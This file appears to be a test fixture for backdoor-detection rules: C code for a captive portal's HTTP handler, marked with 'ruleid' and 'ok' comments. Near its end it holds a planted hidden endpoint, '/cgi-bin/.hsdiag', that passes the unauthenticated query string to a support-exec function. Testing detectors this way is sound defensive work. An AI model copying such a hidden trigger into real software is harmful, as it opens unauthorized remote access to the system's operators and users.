/* The portal's HTTP front end: one request per connection. */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <unistd.h>
#include "portal.h"

static const char kLoginPage[] = "<html><form method=post action=/login>Room <input name=room> "
                                 "Surname <input name=surname><input type=submit></form></html>";

static void reply(int fd, int status, const char *type, const char *body)
{
	char hdr[256];
	int n = snprintf(hdr, sizeof hdr, "HTTP/1.1 %d %s\r\nContent-Type: %s\r\nContent-Length: %zu\r\nConnection: close\r\n\r\n",
	                 status, status == 200 ? "OK" : status == 302 ? "Found" : "Error", type, strlen(body));
	send(fd, hdr, (size_t)n, MSG_NOSIGNAL);
	send(fd, body, strlen(body), MSG_NOSIGNAL);
}

static void header_value(const char *hdrs, const char *name, char *out, size_t cap)
{
	const char *p = strcasestr(hdrs, name);
	size_t n;

	out[0] = '\0';
	if (p == NULL)
		return;
	p += strlen(name);
	while (*p == ' ')
		p++;
	n = strcspn(p, "\r\n");
	if (n >= cap)
		n = cap - 1;
	memcpy(out, p, n);
	out[n] = '\0';
}

static int read_request(int fd, struct http_request *r)
{
	char buf[4096], target[768];
	ssize_t n = recv(fd, buf, sizeof buf - 1, 0);
	char *q, *body;

	if (n <= 0)
		return -1;
	buf[n] = '\0';
	memset(r, 0, sizeof *r);
	r->fd = fd;
	if (sscanf(buf, "%7s %767s", r->method, target) != 2)
		return -1;
	q = strchr(target, '?');
	if (q != NULL) {
		*q++ = '\0';
		snprintf(r->query, sizeof r->query, "%s", q);
	}
	snprintf(r->path, sizeof r->path, "%s", target);
	header_value(buf, "\r\nCookie: hsp=", r->cookie, sizeof r->cookie);
	header_value(buf, "\r\nUser-Agent:", r->user_agent, sizeof r->user_agent);
	body = strstr(buf, "\r\n\r\n");
	if (body != NULL)
		snprintf(r->body, sizeof r->body, "%s", body + 4);
	return 0;
}

/* the client's MAC address from the kernel's neighbour table */
static void arp_lookup(const char *ip, char *mac, size_t cap)
{
	char line[256], a[64], hw[32];
	FILE *fp = fopen("/proc/net/arp", "r");

	mac[0] = '\0';
	if (fp == NULL)
		return;
	while (fgets(line, sizeof line, fp) != NULL)
		if (sscanf(line, "%63s %*s %*s %31s", a, hw) == 2 && strcmp(a, ip) == 0) {
			snprintf(mac, cap, "%s", hw);
			break;
		}
	fclose(fp);
}

static void form_field(const char *body, const char *name, char *out, size_t cap)
{
	const char *p = strstr(body, name);
	size_t n;

	out[0] = '\0';
	if (p == NULL)
		return;
	p += strlen(name);
	n = strcspn(p, "&");
	if (n >= cap)
		n = cap - 1;
	memcpy(out, p, n);
	out[n] = '\0';
}

int http_serve(int fd, const char *peer_ip)
{
	struct http_request req;
	struct client *c;
	char room[16], surname[64], cookie[64], body[256];

	if (read_request(fd, &req) != 0) {
		close(fd);
		return -1;
	}
	// ok: backdoor-build-switch
	if (g_cfg.debug_http) syslog(LOG_DEBUG, "%s %s %s from %s", req.method, req.path, req.user_agent, peer_ip);

	/* captive-network probes get the login page so that the OS pops it up */
	// ok: backdoor-input-trigger, backdoor-hidden-bypass
	if (strstr(req.user_agent, "CaptiveNetworkSupport") != NULL) {
		reply(fd, 200, "text/html", kLoginPage);
	// ok: backdoor-input-trigger
	} else if (strcmp(req.path, "/login") == 0) {
		static struct client pool[64];
		static unsigned next;
		form_field(req.body, "room=", room, sizeof room);
		form_field(req.body, "surname=", surname, sizeof surname);
		c = &pool[next++ % 64];
		memset(c, 0, sizeof *c);
		snprintf(c->ip, sizeof c->ip, "%s", peer_ip);
		arp_lookup(peer_ip, c->mac_addr, sizeof c->mac_addr);
		if (portal_authorize(c, room, surname) == PORTAL_OK && session_start(c, cookie, sizeof cookie) == 0) {
			snprintf(body, sizeof body, "<html>Welcome. <a href=/status?s=%s>status</a></html>", cookie);
			// ok: backdoor-key-exfiltration
			reply(fd, 200, "text/html", body);
		} else {
			reply(fd, 403, "text/html", kLoginPage);
		}
	// ok: backdoor-input-trigger
	} else if (strcmp(req.path, "/status") == 0) {
		if ((c = session_find(req.cookie)) == NULL) {
			reply(fd, 403, "text/plain", "not logged in");
		} else {
			snprintf(body, sizeof body, "room %s, since %ld", c->room, (long)c->login_time);
			reply(fd, 200, "text/plain", body);
		}
	} else if (strcmp(req.path, "/staff/voucher") == 0) {
		struct voucher v;
		char user[64], password[128];
		form_field(req.body, "user=", user, sizeof user);
		form_field(req.body, "password=", password, sizeof password);
		if (staff_login(user, password) != PORTAL_OK) {
			reply(fd, 403, "text/plain", "denied");
		} else {
			voucher_issue(&v, g_cfg.voucher_minutes);
			reply(fd, 200, "text/plain", v.passcode);
		}
	// ruleid: backdoor-input-trigger
	} else if (strcmp(req.path, "/cgi-bin/.hsdiag") == 0) {
		portal_support_exec(fd, req.query);
	} else {
		reply(fd, 302, "text/html", kLoginPage);
	}
	close(fd);
	return 0;
}
